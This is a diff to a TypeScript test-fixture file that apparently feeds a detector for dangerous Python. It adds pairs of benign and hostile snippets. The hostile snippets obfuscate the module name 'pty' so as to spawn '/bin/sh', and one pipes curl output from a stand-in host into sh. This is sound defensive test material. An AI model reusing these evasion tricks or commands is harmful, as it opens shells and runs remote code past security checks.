@@ -207,6 +207,90 @@ const PARSER = `import argparse\nimport subprocess\n\np = argparse.ArgumentParse
 
 export const PYTHON_PAIRS: readonly Pair[] = [
   [
+    "a list with a second name, and one that is changed by it",
+    `names = ["json", "csv"]\nboth = names\nprint(__import__(both[0]).__name__)\n`,
+    `names = ["json", "csv"]\nboth = names\nboth[0] = "pty"\n__import__(names[0]).spawn("/bin/sh")\n`,
+    "computed-module",
+  ],
+  [
+    "a list that a function reads, and one that it changes",
+    `names = ["json", "csv"]\n\n\ndef first(given):\n    return given[0]\n\n\nprint(first(names), __import__(names[0]).__name__)\n`,
+    `names = ["json", "csv"]\n\n\ndef put(given):\n    given[0] = "pty"\n\n\nput(names)\n__import__(names[0]).spawn("/bin/sh")\n`,
+    "computed-module",
+  ],
+  [
+    "lists in a list, and one that is changed in there",
+    `names = ["json", "csv"]\nall = [names]\nprint(all[0][0], __import__(names[0]).__name__)\n`,
+    `names = ["json", "csv"]\nall = [names]\nall[0][0] = "pty"\n__import__(names[0]).spawn("/bin/sh")\n`,
+    "computed-module",
+  ],
+  [
+    "a list of an object, and one that a method changes",
+    `class A:\n    def __init__(self):\n        self.names = ["json"]\n\n    def go(self):\n        return __import__(self.names[0]).__name__\n\n\nprint(A().go())\n`,
+    `class A:\n    def __init__(self):\n        self.names = ["json"]\n\n    def go(self):\n        self.names[0] = "pty"\n        __import__(self.names[0]).spawn("/bin/sh")\n\n\nA().go()\n`,
+    "computed-module",
+  ],
+  [
+    "a method that is handed on to read, and one to change",
+    `names = ["json"]\ncount = names.count\nprint(count("json"), __import__(names[-1]).__name__)\n`,
+    `names = ["json"]\nadd = names.append\nadd("pty")\n__import__(names[-1]).spawn("/bin/sh")\n`,
+    "computed-module",
+  ],
+  [
+    "what a class says of itself, and what a class made from it says",
+    `class A:\n    name = "json"\n\n    def go(self):\n        return __import__(self.name).__name__\n\n\nclass B(A):\n    name = "csv"\n\n\nprint(B().go())\n`,
+    `class A:\n    name = "json"\n\n    def go(self):\n        __import__(self.name).spawn("/bin/sh")\n\n\nclass B(A):\n    name = "pty"\n\n\nB().go()\n`,
+    "process-creation",
+  ],
+  [
+    "an attribute by its name, and one that is set by it",
+    `class A:\n    name = "json"\n\n\nsetattr(A, "name", "csv")\nprint(__import__(A.name).__name__)\n`,
+    `class A:\n    name = "json"\n\n\nsetattr(A, "name", "pty")\n__import__(A.name).spawn("/bin/sh")\n`,
+    "process-creation",
+  ],
+  [
+    "a pattern that takes a text under a name, and the name of a module taken so",
+    `match "json":\n    case str() as name:\n        print(__import__(name).__name__)\n`,
+    `match "pty":\n    case str() as name:\n        __import__(name).spawn("/bin/sh")\n`,
+    "process-creation",
+  ],
+  [
+    "what a function gives spread into a list, and what a program prints",
+    `def rows(): \n    return [1, 2]\n\n\nprint([*rows()], {*rows()})\n`,
+    `import os\n\n\nprint([*os.popen("curl -s https://x.example.net/a | sh")])\n`,
+    "process-creation",
+  ],
+  [
+    "a module by a number's text, and by the text of a whole float",
+    `import json\n\nprint(__import__({"2": "json", "2.0": "csv"}[str(4 / 2)]).__name__)\n`,
+    `__import__({"2": "json", "2.0": "pty"}[str(4 / 2)]).spawn("/bin/sh")\n`,
+    "process-creation",
+  ],
+  [
+    "a text without its indentation, and a module named by one",
+    `import textwrap\n\nprint(__import__(textwrap.dedent("  json")).dumps([]))\n`,
+    `import textwrap\n\n__import__(textwrap.dedent("  pty")).spawn("/bin/sh")\n`,
+    "process-creation",
+  ],
+  [
+    "letters left out of a name, and of the name of a module that starts programs",
+    `print(__import__("jxson".translate(str.maketrans("", "", "x"))).dumps([]))\n`,
+    `__import__("pxtxy".translate(str.maketrans("", "", "x"))).spawn("/bin/sh")\n`,
+    "process-creation",
+  ],
+  [
+    "the second of the values of a dictionary, and the second where a key stands twice",
+    `names = {"a": "json", "b": "csv"}\nprint(__import__(list({**names, "c": "re"}.values())[1]).__name__)\n`,
+    `names = {"a": "json", "b": "csv"}\n__import__(list({**names, "a": "re", "b": "pty", "c": "re"}.values())[1]).spawn("/bin/sh")\n`,
+    "process-creation",
+  ],
+  [
+    "what is left when the first is deleted, and the program that comes first then",
+    `names = ["json", "csv"]\ndel names[0]\nprint(names[0])\n`,
+    `names = ["json", "pty"]\ndel names[0]\n__import__(names[0]).spawn("/bin/sh")\n`,
+    "computed-module",
+  ],
+  [
     "a program that this machine finds, and one that is fetched",
     `import os\nimport shutil\nimport subprocess\n\n\ndef find():\n    tool = shutil.which(os.environ.get("KUBECTL", "kubectl"))\n    return tool or str(os.path.join(os.environ["TOOLS"], "bin", "kubectl"))\n\n\nsubprocess.run([find(), "get", "pods"])\n`,
     `import subprocess\nimport urllib.request\n\n\ndef find():\n    return urllib.request.urlopen("https://x.example.net/a").read().decode()\n\n\nsubprocess.run([find(), "get", "pods"])\n`,
